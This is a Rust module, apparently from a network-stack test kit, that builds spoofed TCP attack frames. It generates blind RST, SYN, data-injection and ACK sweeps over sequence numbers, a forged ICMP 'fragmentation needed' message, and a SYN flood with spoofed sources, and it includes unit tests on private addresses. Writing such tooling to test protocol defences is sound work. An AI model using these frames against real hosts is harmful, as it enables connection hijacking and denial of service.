//! What is sent against TCP by who is not on the path (RFC 5961, RFC 5927), or floods it.
//!
//! These are no rows of the table: what they have to move differs with the state of the connection that they are against.

use std::net::{Ipv4Addr, SocketAddrV4};

use ::testkit::Random;

use super::{
    super::{
        frames::{self, DONT_FRAGMENT, Ipv4, Mac, ethernet, icmp},
        tcp::{ACK, MSS, PSH, RST, SACK_PERMITTED, SYN, Segment, TCP, option},
    },
    Target,
};

/// A connection that is attacked, as an attacker sees it who guesses the ports: frames go to the `victim`, in the name of
/// its `peer`.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Flow {
    /// The hardware address of the victim.
    pub victim_mac: Mac,
    /// Who is attacked.
    pub victim: SocketAddrV4,
    /// Who is on the other side, and in whose name the frames are.
    pub peer: SocketAddrV4,
    /// The hardware address that the frames come from.
    pub mac: Mac,
}

impl Flow {
    /// A segment in the peer's name.
    pub fn segment(&self, flags: u8) -> Segment {
        Segment::new(self.peer, self.victim, flags)
    }

    /// The frame with it.
    pub fn frame(&self, segment: &Segment, payload: &[u8]) -> Vec<u8> {
        self.packet(*self.peer.ip(), TCP, &segment.bytes(payload))
    }

    fn packet(&self, source: Ipv4Addr, protocol: u8, payload: &[u8]) -> Vec<u8> {
        let header =
            Ipv4 { flags_offset: DONT_FRAGMENT, ..Ipv4::new(source, *self.victim.ip(), protocol) };
        ethernet(self.victim_mac, self.mac, 0x0800, &header.packet(payload))
    }

    /// Resets, one in each `step` sequence numbers, from `first` on: as many as it takes for all of them, or `most`.
    pub fn resets(&self, first: u32, step: u32, most: usize) -> Vec<Vec<u8>> {
        self.sweep(first, step, most, RST, &[])
    }

    /// Requests for a connection that is there already, likewise.
    pub fn syns(&self, first: u32, step: u32, most: usize) -> Vec<Vec<u8>> {
        self.sweep(first, step, most, SYN, &[])
    }

    /// Data with an acknowledgment of `acknowledgment`, likewise.
    pub fn data(
        &self,
        first: u32,
        step: u32,
        most: usize,
        acknowledgment: u32,
        payload: &[u8],
    ) -> Vec<Vec<u8>> {
        let data = |sequence| {
            let segment = Segment { sequence, acknowledgment, ..self.segment(ACK | PSH) };
            self.frame(&segment, payload)
        };
        guesses(first, step, most).map(data).collect()
    }

    /// Acknowledgments of what was perhaps sent, from `first` on.
    pub fn acknowledgments(
        &self,
        sequence: u32,
        first: u32,
        step: u32,
        most: usize,
    ) -> Vec<Vec<u8>> {
        let acknowledge = |acknowledgment| {
            self.frame(&Segment { sequence, acknowledgment, ..self.segment(ACK) }, &[])
        };
        guesses(first, step, most).map(acknowledge).collect()
    }

    fn sweep(&self, first: u32, step: u32, most: usize, flags: u8, data: &[u8]) -> Vec<Vec<u8>> {
        let guess = |sequence| self.frame(&Segment { sequence, ..self.segment(flags) }, data);
        guesses(first, step, most).map(guess).collect()
    }

    /// The word of a router, `router`, that a segment of the victim with this sequence number was larger than `mtu`
    /// (RFC 1191).
    pub fn fragmentation_needed(&self, router: Ipv4Addr, sequence: u32, mtu: u16) -> Vec<u8> {
        let segment = Segment { sequence, ..Segment::new(self.victim, self.peer, ACK) };
        let header = Ipv4 {
            flags_offset: DONT_FRAGMENT,
            total_length: Some(1500),
            ..Ipv4::new(*self.victim.ip(), *self.peer.ip(), TCP)
        };
        // A router quotes the header and eight bytes behind it (RFC 792).
        let quoted = header.packet(&segment.bytes(&[])[..8]);
        let rest = [&[0, 0], &mtu.to_be_bytes()[..], &quoted].concat();
        self.packet(router, frames::ICMP, &icmp(3, 4, &rest))
    }
}

/// Sequence numbers at this distance from each other, from `first` on, at most once around.
fn guesses(first: u32, step: u32, most: usize) -> impl Iterator<Item = u32> {
    let step = step.max(1);
    let around = (u64::from(u32::MAX) + 1).div_ceil(step.into());
    let count = usize::try_from(around).map_or(most, |around| around.min(most));
    (0..count).map(move |number| first.wrapping_add((number as u32).wrapping_mul(step)))
}

/// So many requests for a connection to `port`, of strangers, of whom none is there to go on.
pub fn syn_flood(target: &Target, port: u16, count: usize, random: &mut Random) -> Vec<Vec<u8>> {
    let options = [option(MSS, &1460_u16.to_be_bytes()), option(SACK_PERMITTED, &[])].concat();
    let victim = SocketAddrV4::new(target.address, port);
    let syn = |number| {
        let peer = SocketAddrV4::new(target.stranger(number), 1024 + random.below(60_000) as u16);
        let mac = target.stranger_mac(number);
        let flow = Flow { victim_mac: target.mac, victim, peer, mac };
        let sequence = random.bits() as u32;
        let segment = Segment { sequence, options: options.clone(), ..flow.segment(SYN) };
        flow.frame(&segment, &[])
    };
    (0..count).map(syn).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const FLOW: Flow = Flow {
        victim_mac: [2, 0, 0, 0, 0, 2],
        victim: SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 2), 8080),
        peer: SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 1), 40_000),
        mac: [2, 0xbd, 0, 0, 0, 1],
    };

    fn read(frame: &[u8]) -> Segment {
        assert_eq!(frame[..14], [2, 0, 0, 0, 0, 2, 2, 0xbd, 0, 0, 0, 1, 8, 0]);
        Segment::read(&frame[14..]).unwrap().0
    }

    #[test]
    fn a_sweep_goes_around_once() {
        let frames = FLOW.resets(u32::MAX, 1 << 30, 1000);
        let numbers: Vec<_> = frames.iter().map(|frame| read(frame).sequence).collect();
        assert_eq!(numbers, [u32::MAX, (1 << 30) - 1, (2 << 30) - 1, (3 << 30) - 1]);
        assert!(frames.iter().all(|frame| read(frame).flags == RST));
        assert_eq!(FLOW.syns(0, 1, 10).len(), 10);
        assert_eq!(guesses(5, 0, 3).collect::<Vec<_>>(), [5, 6, 7]);
    }

    #[test]
    fn data_and_acknowledgments_have_both_numbers() {
        let data = read(&FLOW.data(7, 1, 1, 9, b"evil")[0]);
        assert_eq!((data.sequence, data.acknowledgment, data.flags), (7, 9, ACK | PSH));
        let ack = read(&FLOW.acknowledgments(7, 9, 1, 1)[0]);
        assert_eq!((ack.sequence, ack.acknowledgment, ack.flags), (7, 9, ACK));
        assert_eq!((ack.source, ack.destination), (FLOW.peer, FLOW.victim));
    }

    #[test]
    fn the_word_of_a_router_quotes_the_victim() {
        let frame = FLOW.fragmentation_needed(Ipv4Addr::new(10, 0, 0, 9), 0x0102_0304, 600);
        let message = &frame[14 + 20..];
        assert_eq!((message[0], message[1], &message[6..8]), (3, 4, &600_u16.to_be_bytes()[..]));
        let quoted = &message[8..];
        assert_eq!(quoted.len(), 28);
        assert_eq!(quoted[12..20], [10, 0, 0, 2, 10, 0, 0, 1]);
        assert_eq!(quoted[20..28], [0x1f, 0x90, 0x9c, 0x40, 1, 2, 3, 4]);
    }
}
